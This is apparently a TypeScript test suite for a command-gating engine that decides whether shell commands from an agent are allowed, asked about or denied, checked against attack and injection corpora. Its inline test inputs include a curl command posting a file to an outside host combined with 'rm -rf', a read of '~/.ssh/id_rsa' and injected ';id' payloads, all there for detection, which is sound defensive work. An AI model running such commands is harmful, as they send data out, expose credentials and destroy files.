import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { decideExec } from "./decide-exec.ts";
import type { ExecDecision, ExecPolicy } from "./decide-exec.ts";
import { createShellAnalyzer } from "./shell-analyzer.ts";
import type { ShellAnalyzer } from "./shell-analyzer.ts";
import { makeExecFixture, expandCorpusText, type ExecFixture } from "../../test/support/exec-fixture.ts";

type CorpusEntry = { command: string; expect: "allow" | "ask" | "deny"; reasons?: string[]; category?: string; policy?: ExecPolicy };

const corpusDir = path.join(import.meta.dirname, "corpus");
const systemPath = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";
const defaultPolicy: ExecPolicy = { security: "allowlist", ask: "on-miss" };

function readCorpus(name: string): CorpusEntry[] {
  return fs.readFileSync(path.join(corpusDir, name), "utf8").split("\n").filter((l) => l.trim() !== "")
    .map((l) => JSON.parse(l) as CorpusEntry);
}

type Fixture = ExecFixture;

function makeFixture(): Fixture {
  return makeExecFixture(fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "warden-exec-"))));
}

const expand = expandCorpusText;

let analyzer: ShellAnalyzer;
let fx: Fixture;

function decide(command: string, policy: ExecPolicy = defaultPolicy, cwd?: string): ExecDecision {
  return decideExec({ command, cwd: cwd ?? fx.ws, workspace: fx.ws, homeDir: fx.home, stateDir: fx.state,
    pathEnv: systemPath, policy }, analyzer);
}

function explain(entry: CorpusEntry, d: ExecDecision): string {
  return `${JSON.stringify(entry.command)} → ${d.decision} (${d.reasons.map((r) => `${r.id}: ${r.message}`).join("; ")})`;
}

before(async () => {
  analyzer = await createShellAnalyzer();
  fx = makeFixture();
});
after(() => fs.rmSync(fx.root, { recursive: true, force: true }));

void describe("exec decision corpus", () => {
  void it("allows plain read-only commands inside the workspace", () => {
    const entries = readCorpus("benign.jsonl");
    assert.ok(entries.length >= 100);
    const wrong = entries.map((e) => ({ e, d: decide(expand(e.command, fx)) })).filter(({ e, d }) => d.decision !== e.expect);
    assert.deepEqual(wrong.map(({ e, d }) => explain(e, d)), []);
  });

  void it("never allows an attack without the owner, and names why", () => {
    const entries = readCorpus("attacks.jsonl");
    assert.ok(entries.length >= 400);
    const allowed: string[] = [];
    const missing: string[] = [];
    for (const e of entries) {
      const d = decide(expand(e.command, fx));
      if (d.decision === "allow") allowed.push(`[${e.category ?? ""}] ${explain(e, d)}`);
      assert.ok(d.reasons.length > 0);
      for (const id of e.reasons ?? []) {
        if (!d.reasons.some((r) => r.id === id)) missing.push(`${explain(e, d)} lacks ${id}`);
      }
    }
    assert.deepEqual(allowed, []);
    assert.deepEqual(missing, []);
  });

  void it("applies tools.exec.security, tools.exec.ask and the owner's rules", () => {
    const wrong: string[] = [];
    for (const e of readCorpus("policy.jsonl")) {
      const policy = JSON.parse(expand(JSON.stringify(e.policy), fx)) as ExecPolicy;
      const d = decide(expand(e.command, fx), policy);
      if (d.decision !== e.expect) wrong.push(explain(e, d));
      for (const id of e.reasons ?? []) if (!d.reasons.some((r) => r.id === id)) wrong.push(`${explain(e, d)} lacks ${id}`);
    }
    assert.deepEqual(wrong, []);
  });
});

void describe("payloads from the shared command-injection list", () => {
  const lines = fs.readFileSync(path.join(corpusDir, "payloads", "command-execution-unix.txt"), "utf8").split("\n")
    .filter((l) => l.trim() !== "");
  const decodeUrl = (s: string) => {
    try {
      return decodeURIComponent(s);
    } catch {
      return s;
    }
  };
  /** The payload spliced where it injects: after a command when bare, or closing the quote it opens. */
  function injections(payload: string): string[] {
    // The list is written for several layers: URL encoding and `\n` meaning a newline are part of the payload.
    const f = decodeUrl(payload).replaceAll("\\n", "\n");
    if (f.startsWith('"')) return [payload, f, `cat "a.txt${f}"`, `grep -rn "x${f}" .`];
    if (f.startsWith("'")) return [payload, f, `cat 'a.txt${f}'`, `grep -rn 'x${f}' .`];
    return [payload, f, `cat a.txt${f}`, `cat a.txt ${f}`, `ls ${f}`, `grep -rn x .${f}`, `git log ${f}`];
  }

  void it("never allows a payload, raw or spliced where it injects", () => {
    assert.ok(lines.length > 50);
    const allowed: string[] = [];
    for (const line of lines) {
      // `ls -al` spliced after `cat a.txt|` is a read-only pipeline (allowed by design): only its raw form is refused.
      const checked = /ls -al/.test(line) ? [line] : injections(line);
      for (const v of checked) {
        const d = decide(v);
        if (d.decision === "allow") allowed.push(`${JSON.stringify(v)} (${d.reasons.map((r) => r.id).join(",")})`);
      }
    }
    assert.deepEqual(allowed, []);
  });

  void it("still allows payload text that stays data inside quotes", () => {
    // Quoting the whole payload makes it an argument, not code: refusing it would be a false alarm.
    for (const v of [`echo '|id|'`, `grep -rn ';id;' .`, `echo "a;id"`]) assert.equal(decide(v).decision, "allow", v);
  });
});

void describe("facts and risk", () => {
  void it("reports facts the data-flow rules need", () => {
    const d = decide("curl -d @a.txt http://example.com; rm -rf src; echo x > out.txt");
    assert.equal(d.facts.network, true);
    assert.equal(d.facts.deletes, true);
    assert.equal(d.facts.writes, true);
    assert.ok(d.facts.writePaths.includes(path.join(fx.ws, "out.txt")));
    assert.ok(d.facts.binaries.some((b) => b.endsWith("/curl") || b === "curl"));
    assert.equal(d.risk, "high");
    assert.ok(d.score > 50);
  });

  void it("resolves read paths and flags secrets", () => {
    const d = decide("cat a.txt ~/.ssh/id_rsa");
    assert.equal(d.facts.touchesSecrets, true);
    assert.ok(d.facts.readPaths.includes(path.join(fx.ws, "a.txt")));
    assert.ok(d.facts.readPaths.includes(path.join(fx.home, ".ssh", "id_rsa")));
    assert.equal(d.risk, "critical");
  });

  void it("scores a plain read as no risk", () => {
    const d = decide("cat a.txt");
    assert.equal(d.decision, "allow");
    assert.equal(d.risk, "none");
    assert.equal(d.score, 0);
    assert.equal(d.facts.writes || d.facts.network || d.facts.deletes || d.facts.executesCode, false);
  });

  void it("judges a working directory outside the workspace", () => {
    const d = decide("ls", defaultPolicy, fx.outside);
    assert.equal(d.decision, "ask");
    assert.ok(d.reasons.some((r) => r.id === "exec.path_outside_workspace"));
  });

  void it("denies when the workspace is not configured", () => {
    const d = decideExec({ command: "ls", cwd: "/", workspace: "", homeDir: fx.home, stateDir: fx.state, pathEnv: systemPath,
      policy: defaultPolicy }, analyzer);
    assert.equal(d.decision, "deny");
  });

  void it("turns an analyzer failure into a deny", () => {
    const broken: ShellAnalyzer = { analyze: () => { throw new Error("grammar exploded"); } };
    const d = decideExec({ command: "ls", cwd: fx.ws, workspace: fx.ws, homeDir: fx.home, stateDir: fx.state,
      pathEnv: systemPath, policy: defaultPolicy }, broken);
    assert.equal(d.decision, "deny");
    assert.ok(d.reasons.some((r) => r.id === "gate.error"));
  });

  void it("refuses a binary planted in the workspace even when PATH points there", () => {
    const d = decideExec({ command: "ls", cwd: fx.ws, workspace: fx.ws, homeDir: fx.home, stateDir: fx.state,
      pathEnv: `${fx.ws}/bin:${systemPath}`, policy: defaultPolicy }, analyzer);
    assert.equal(d.decision, "ask");
    assert.ok(d.facts.binaries.includes(path.join(fx.ws, "bin", "ls")));
  });

  void it("names what a file writer writes, as for a redirect: `tee .envrc` says direnv sources it", () => {
    const message = (command: string) => decide(command).reasons.filter((r) => r.id === "exec.writes").map((r) => r.message);
    const viaTee = message("tee -a .envrc");
    const viaRedirect = message("echo x >> .envrc");
    assert.ok(viaRedirect.some((m) => m.startsWith("writes `.envrc`: ")), viaRedirect.join("; "));
    assert.ok(viaTee.includes(viaRedirect.find((m) => m.startsWith("writes `.envrc`")) ?? "?"), viaTee.join("; "));
    assert.ok(message("cp notes.md -- .git/hooks/pre-commit").some((m) => m.startsWith("writes `.git/hooks/pre-commit`")));
    assert.ok(message("install -t bin a.txt").includes("writes `bin`"));
    assert.ok(message("chmod +x run.sh").includes("writes `run.sh`"));
    // The source of a copy is read, not written.
    assert.ok(!message("cp a.txt b.txt").includes("writes `a.txt`"));
    const outside = decide(`touch ${fx.outside}/x`);
    assert.ok(outside.reasons.some((r) => r.id === "exec.path_outside_workspace"), outside.reasons.map((r) => r.message).join("; "));
  });

  void it("judges a symlinked binary by its real target", () => {
    const d = decideExec({ command: "ls a.txt", cwd: fx.ws, workspace: fx.ws, homeDir: fx.home, stateDir: fx.state,
      pathEnv: `${fx.ws}/tools:${systemPath}`, policy: defaultPolicy }, analyzer);
    assert.equal(d.decision, "ask");
    assert.ok(d.reasons.some((r) => r.id === "exec.destructive"));
  });
});

void describe("workspace inside the state directory", () => {
  void it("keeps the workspace usable while the rest of the state directory stays secret", () => {
    const state = path.join(fx.root, "state-with-ws");
    const ws = path.join(state, "workspace");
    fs.mkdirSync(ws, { recursive: true });
    fs.writeFileSync(path.join(ws, "a.txt"), "x\n");
    fs.writeFileSync(path.join(state, "config.json5"), "{}\n");
    const run = (command: string) => decideExec({ command, cwd: ws, workspace: ws, homeDir: fx.home, stateDir: state,
      pathEnv: systemPath, policy: defaultPolicy }, analyzer);
    assert.equal(run("cat a.txt").decision, "allow");
    const d = run("cat ../config.json5");
    assert.equal(d.decision, "ask");
    assert.ok(d.reasons.some((r) => r.id === "exec.secret_path"));
  });
});
